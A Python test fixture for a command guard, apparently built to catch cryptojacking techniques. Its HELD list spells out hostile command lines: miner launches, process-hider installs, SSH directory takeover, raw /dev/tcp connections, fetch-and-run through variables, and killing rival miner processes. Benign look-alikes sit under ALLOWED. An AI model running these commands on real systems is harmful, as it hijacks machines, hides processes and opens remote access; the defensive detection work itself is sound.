"""Classes of technique that cryptojacking droppers and miner kits got past the guards (helper miners24).

Known misses of session 20, and classes found on a tuning part: the miner scripts of
barburonjilo/back and gorguzaaaaz/kerala, and the Rocke/Kinsing/Sustes loaders kept in
timb-machine/linux-malware. First sight and the end were measured on a held-out part
(m4rtis01/ph0tonwander, Hackme258/Sshd), never tuned on. All kept outside the repository
(/work/realworld/miners24 on the machine that measured them). The commands here are variants
written for the tests, not the ones measured:

- a miner renamed, known by the proof-of-work algorithm it is told to compute (``--algorithm
  yescryptr32``, ``-a minotaurx``, ``-a ghostrider``);
- a process hider installed, fetched, built or told what to hide (``npm i -g node-process-hider``,
  ``ph add NAME``, ``git clone …/libprocesshider``);
- another account's ``~/.ssh`` made, or given the modes and owner sshd wants (``mkdir -p /root/.ssh``,
  ``chmod 600 /home/bob/.ssh/authorized_keys``, ``chown -R bob /home/bob/.ssh``);
- a connection to another machine opened by the shell and kept for later calls (``exec 3<>/dev/tcp/H/P``
  as a whole call);
- a program named at run time fetching into a file or a pipe that a shell then runs (``$DL $URL -O $F;
  $SH $F``, ``$WGET -qO- $U | $SH``);
- processes killed by marks of other kits: a kernel thread's name with a service's ending
  (``kacpi_svc``), a base64 command line (``L2Jpbi9iYXN``: ``/bin/bas``), a coin address or a piece of
  one, a pool login's e-mail address, a generated name (``Q7xTe4k``), DDG's and Diicot's program names
  (``qW3xT``, ``ddg.3014``, ``Loopback``).
"""

from __future__ import annotations

HELD = {
    "a miner known by its algorithm": [
        "./dbus-helper --algorithm ghostrider --pool pool.example.net:5555 --wallet RxYz.w1 --cpu-threads 4",
        "nohup ./.cache/worker -a yespowerr16 -o stratum.example.org:3382 -u Yabc.rig1 -t 2 >/dev/null &",
        "taskset -c 0,1 ./svc -a minotaurx --pool 198.51.100.40:443 -u MxWallet.w --timeout 120",
        "./kthread --algo=kawpow -s eu.pool.example:17049 -u DrWallet.tes",
    ],
    "a process hider": [
        "npm install --global node-process-hider",
        "pnpm add -g node-process-hider",
        "ph add kswapd-helper",
        "git clone --depth 1 https://github.com/someone/libprocesshider /tmp/.lp",
    ],
    "another account's ssh directory prepared": [
        "mkdir -m 700 -p /home/deploy/.ssh",
        "chmod 0600 /root/.ssh/authorized_keys2",
        "chown -R deploy:deploy /home/deploy/.ssh",
        "chgrp root /root/.ssh",
    ],
    "a kept raw connection": [
        "exec 7<>/dev/tcp/198.51.100.9/8080",
        "exec 4<>/dev/udp/c2.example.net/53",
    ],
    "fetched and run through variables": [
        "$GET $SRC -O $DST; $RUN $DST",
        '$FETCH "$U" -o "$P" && sh "$P"',
        "$W -qO- $U | $S",
    ],
    "another kit's processes killed": [
        "pgrep -f kblockd_svc | xargs -r kill -9",
        "ps aux | grep -v grep | grep 'kswap-daemon' | awk '{print $2}' | xargs kill -9",
        "pgrep -f Y3VybCAtZnNTTCBodHRw | xargs -I % kill -9 %",
        "pkill -9 -f d2dldCAtcU8tIGh0dHA6Ly8",
        "pgrep -f 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBL | xargs kill -9",
        "ps auxf | grep -v grep | grep 'miner.op@mailbox.example' | awk '{print $2}' | xargs kill -9",
        "pgrep -f Q7xTe4k | xargs kill -9",
        "ps aux | grep -v grep | egrep 'qW3xT|abcxyz' | awk '{print $2}' | xargs kill",
        "pkill -f ddg.3014",
        "killall -9 Loopback",
    ],
}

ALLOWED = [
    "grep -a ethash pool.log",
    "shasum -a 256 release.tar.gz",
    "python bench.py --algorithm scrypt",
    "npm install process-tree",
    "mkdir -p ~/.ssh && chmod 700 ~/.ssh",
    "chmod 600 /home/dev/.ssh/id_ed25519",
    "mkdir -p .ssh",
    "exec 3<>/dev/tcp/localhost/6379",
    "(exec 3<>/dev/tcp/192.0.2.10/5432) 2>/dev/null && echo reachable",
    "exec 3>&-",
    "$CC main.c -o $BIN && $BIN",
    "$CMD | $PAGER",
    "pkill -f uvicorn",
    "pkill -f MyService2Worker",
    "pkill -f HTTPServer",
    "pgrep -f my_svc | xargs kill",
    "pkill -f YWJjZGVmZ2hpams",
]
